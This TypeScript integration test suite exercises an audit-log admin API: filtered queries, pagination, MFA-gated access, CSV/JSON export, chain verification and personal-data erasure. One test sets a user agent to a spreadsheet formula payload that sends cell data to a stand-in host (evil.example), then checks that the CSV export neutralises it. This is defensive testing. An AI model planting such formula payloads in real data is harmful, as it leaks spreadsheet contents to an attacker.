import { randomName, waitFor } from '@tracking/testing';
import { INGRESS_HEADERS, startPlatform, TEST_CLIENT_IP, type Platform } from '@tracking/testing/platform';

import { accounts, PASSWORD } from './accounts';

interface Entry {
  sequence: number;
  action: string;
  actor: { service: string; userId: string | null; role: string | null };
  subject: { type: string; id: string };
  outcome: string;
  sourceIp: string | null;
  userAgent: string | null;
  correlationId: string;
  hash: string;
}

/** The admin query, export, verification and erasure promises, through the gateway on the running services. */
describe('the audit log through the admin API', () => {
  let platform: Platform | undefined;
  const setup = () => {
    if (!platform) throw new Error('the platform was not started');
    return platform;
  };
  const { api, register, login, enrolTotp, firstAdmin, anotherAdmin } = accounts(setup);

  beforeAll(async () => {
    platform = await startPlatform();
  });

  afterAll(async () => {
    const codes = (await platform?.stop()) ?? [];
    expect(codes).toEqual(codes.map(() => 0));
  });

  /** Every entry matching the query, following nextCursor page by page. */
  async function allEntries(token: string, query: string, limit = 100): Promise<Entry[]> {
    const found: Entry[] = [];
    let cursor = '';
    do {
      const page = await api(
        'GET',
        `/admin/audit/entries?${query}&limit=${String(limit)}${cursor ? `&cursor=${cursor}` : ''}`,
        { token },
      );
      expect(page.status).toBe(200);
      found.push(...(page.body.entries as Entry[]));
      cursor = (page.body.nextCursor as string | null) ?? '';
    } while (cursor);
    return found;
  }

  /** A client who registered and signed in with the given user agent, once both reached the log. */
  async function clientWithHistory(userAgent: string) {
    const email = `${randomName('client-')}@example.test`;
    const registered = await api('POST', '/auth/register', {
      body: { email, password: PASSWORD, displayName: 'Client' },
      headers: { 'user-agent': userAgent },
    });
    expect(registered.status).toBe(201);
    const userId = String(registered.body.userId);
    const signedIn = await api('POST', '/auth/login', {
      body: { email, password: PASSWORD },
      headers: { 'user-agent': userAgent },
    });
    expect(signedIn.status).toBe(200);
    const { token } = await firstAdmin();
    await waitFor(
      async () =>
        (await allEntries(token, `actorUserId=${userId}&action=auth.login.*`)).length > 0 || undefined,
      { what: "the client's sign-in in the audit log" },
    );
    return { email, userId, token: String(signedIn.body.token) };
  }

  test('an admin filters by person, action prefix and time, pages through, and every query is itself recorded', async () => {
    const admin = await firstAdmin();
    const client = await clientWithHistory('query-test/1.0');
    const before = new Date(Date.now() - 60_000).toISOString();

    // Reading about a person is itself an entry about them (below), so this asks for auth's only.
    const mine = `subjectType=user&subjectId=${client.userId}&action=auth.*`;
    const about = await allEntries(admin.token, `${mine}&order=oldest`);
    expect(about.map((entry) => entry.action)).toEqual(['auth.user.registered', 'auth.login.succeeded']);
    expect(about[0]).toMatchObject({
      actor: { service: 'auth' },
      subject: { type: 'user', id: client.userId },
      outcome: 'success',
      userAgent: 'query-test/1.0',
    });
    expect(about[0]?.hash).toMatch(/^[0-9a-f]{64}$/);
    // Newest first is the default; one entry per page gives the same entries, reversed.
    const paged = await allEntries(admin.token, mine, 1);
    expect(paged.map((entry) => entry.sequence)).toEqual(about.map((entry) => entry.sequence).reverse());
    const inWindow = await allEntries(
      admin.token,
      `actorUserId=${client.userId}&action=auth.login.*&from=${before}&to=${new Date(Date.now() + 60_000).toISOString()}`,
    );
    expect(inWindow.map((entry) => entry.action)).toEqual(['auth.login.succeeded']);
    expect(
      await allEntries(
        admin.token,
        `actorUserId=${client.userId}&from=${new Date(Date.now() + 60_000).toISOString()}`,
      ),
    ).toEqual([]);

    // A cursor only continues its own query; a misspelt filter is refused, not ignored.
    const first = await api(
      'GET',
      `/admin/audit/entries?subjectType=user&subjectId=${client.userId}&limit=1`,
      {
        token: admin.token,
      },
    );
    const cursor = String(first.body.nextCursor);
    const reused = await api('GET', `/admin/audit/entries?subjectType=user&limit=1&cursor=${cursor}`, {
      token: admin.token,
    });
    expect(reused).toMatchObject({ status: 400, body: { code: 'invalid_argument' } });
    expect(reused.body.errors).toMatchObject({
      pageToken: expect.stringMatching(/other filters/) as unknown,
    });
    const typo = await api('GET', `/admin/audit/entries?actor=${client.userId}`, { token: admin.token });
    expect(typo).toMatchObject({ status: 400, body: { code: 'invalid_argument' } });
    const badAction = await api('GET', `/admin/audit/entries?action=auth.%25`, { token: admin.token });
    expect(badAction).toMatchObject({
      status: 400,
      body: { errors: { action: expect.any(String) as unknown } },
    });

    // The reads above, each in the log: by this admin, about this client, from where they read.
    const reads = await allEntries(
      admin.token,
      `actorUserId=${admin.userId}&action=audit.entries.listed&subjectType=user&subjectId=${client.userId}`,
    );
    expect(reads.length).toBeGreaterThanOrEqual(4);
    expect(reads[0]).toMatchObject({
      actor: { service: 'audit', userId: admin.userId, role: 'admin' },
      outcome: 'success',
      userAgent: 'platform-test/1.0',
    });
    expect(reads[0]?.sourceIp).toBe(TEST_CLIENT_IP);
  });

  test('only an admin who passed MFA may read: a client, a password-only admin and no session are refused', async () => {
    const client = await login((await register()).email);
    expect(await api('GET', '/admin/audit/entries', { token: client })).toMatchObject({
      status: 403,
      body: { code: 'permission_denied' },
    });
    expect(await api('GET', '/admin/audit/export?format=csv', { token: client })).toMatchObject({
      status: 403,
    });
    expect(await api('POST', '/admin/audit/verify', { token: client, body: {} })).toMatchObject({
      status: 403,
    });

    const { email, userId } = await register();
    const { token: adminToken } = await firstAdmin();
    expect(
      (await api('PUT', `/admin/users/${userId}/role`, { token: adminToken, body: { role: 'admin' } }))
        .status,
    ).toBe(200);
    const passwordOnly = await login(email);
    expect(await api('GET', '/admin/audit/entries', { token: passwordOnly })).toMatchObject({
      status: 403,
      body: { code: 'mfa_required', errors: { next: 'enrol_totp' } },
    });
    expect(await api('GET', '/admin/audit/entries', {})).toMatchObject({
      status: 401,
      body: { code: 'unauthenticated' },
    });
    await enrolTotp(passwordOnly);
    expect((await api('GET', '/admin/audit/entries?limit=1', { token: passwordOnly })).status).toBe(200);
  });

  test('an export in CSV and JSON holds every matching entry oldest first, defuses formulas, and is recorded', async () => {
    const admin = await firstAdmin();
    const client = await clientWithHistory('=HYPERLINK("http://evil.example/?leak="&A1)');
    const query = `subjectType=user&subjectId=${client.userId}&action=auth.*`;

    const json = await fetch(`${setup().api}/admin/audit/export?format=json&${query}`, {
      headers: { authorization: `Bearer ${admin.token}`, ...INGRESS_HEADERS },
    });
    expect(json.status).toBe(200);
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
    expect(json.headers.get('content-disposition')).toMatch(
      /^attachment; filename="?audit-[0-9TZ-]+\.json"?$/,
    );
    expect(json.headers.get('cache-control')).toBe('no-store');
    const exported = (await json.json()) as Entry[];
    const listed = await allEntries(admin.token, `${query}&order=oldest`);
    expect(exported).toEqual(listed);
    expect(exported.map((entry) => entry.action)).toEqual(['auth.user.registered', 'auth.login.succeeded']);

    const csv = await fetch(`${setup().api}/admin/audit/export?format=csv&${query}`, {
      headers: { authorization: `Bearer ${admin.token}`, ...INGRESS_HEADERS },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const lines = (await csv.text()).trimEnd().split('\n');
    expect(lines[0]).toBe(
      'sequence,occurredAt,recordedAt,actorService,actorUserId,actorRole,action,subjectType,subjectId,tenant,outcome,sourceIp,userAgent,correlationId,eventId,hash',
    );
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(`${String(listed[0]?.sequence)},`);
    // The agent's cell starts with a quote mark, so a spreadsheet shows it as text.
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1)"`);

    const recorded = await allEntries(
      admin.token,
      `actorUserId=${admin.userId}&action=audit.entries.exported`,
    );
    expect(recorded.filter((entry) => entry.subject.id === client.userId)).toHaveLength(2);

    // A refused export is an ordinary problem response, not a half-written file.
    const refused = await fetch(`${setup().api}/admin/audit/export?format=xml`, {
      headers: { authorization: `Bearer ${admin.token}`, ...INGRESS_HEADERS },
    });
    expect(refused.status).toBe(400);
    expect(refused.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  });

  test('an admin verifies the chain through the API, and the check is recorded', async () => {
    const admin = await firstAdmin();
    const verified = await api('POST', '/admin/audit/verify', { token: admin.token, body: {} });
    expect(verified).toMatchObject({ status: 200, body: { intact: true, firstBroken: null } });
    expect(verified.body.verifiedThrough).toBeGreaterThan(0);
    expect(verified.body.headHash).toMatch(/^[0-9a-f]{64}$/);
    const checks = await allEntries(admin.token, `actorUserId=${admin.userId}&action=audit.chain.checked`);
    expect(checks.length).toBeGreaterThanOrEqual(1);
  });

  test("an admin erases a client's personal data from the log: entries stay and verify, their fields are gone, and nobody erases themselves", async () => {
    const admin = await firstAdmin();
    const other = await anotherAdmin();
    const client = await clientWithHistory('erasure-test/1.0');
    const query = `subjectType=user&subjectId=${client.userId}&action=auth.*&order=oldest`;
    const before = await allEntries(admin.token, query);
    expect(before.every((entry) => entry.userAgent === 'erasure-test/1.0')).toBe(true);

    // A client may not erase anyone; an admin may not erase themselves.
    expect(
      await api('POST', `/admin/users/${client.userId}/audit-erasure`, { token: client.token, body: {} }),
    ).toMatchObject({ status: 403 });
    expect(
      await api('POST', `/admin/users/${other.userId}/audit-erasure`, { token: other.token, body: {} }),
    ).toMatchObject({ status: 403, body: { detail: expect.stringMatching(/own audit data/) as unknown } });
    expect(
      await api('POST', '/admin/users/not-a-uuid/audit-erasure', { token: other.token, body: {} }),
    ).toMatchObject({ status: 400 });

    const erased = await api('POST', `/admin/users/${client.userId}/audit-erasure`, {
      token: other.token,
      body: {},
    });
    expect(erased).toMatchObject({ status: 201, body: { alreadyErased: false } });
    const again = await api('POST', `/admin/users/${client.userId}/audit-erasure`, {
      token: other.token,
      body: {},
    });
    expect(again).toMatchObject({ status: 201, body: { alreadyErased: true } });

    // The same entries, hashes and all, with the personal fields gone.
    const after = await allEntries(admin.token, query);
    expect(after).toEqual(before.map((entry) => ({ ...entry, sourceIp: null, userAgent: null })));
    const erasures = await allEntries(
      admin.token,
      `subjectType=user&subjectId=${client.userId}&action=audit.subject.erased`,
    );
    expect(erasures).toHaveLength(2);
    expect(erasures[0]).toMatchObject({ actor: { userId: other.userId, role: 'admin' } });
    expect(await api('POST', '/admin/audit/verify', { token: admin.token, body: {} })).toMatchObject({
      status: 200,
      body: { intact: true },
    });
  });
});
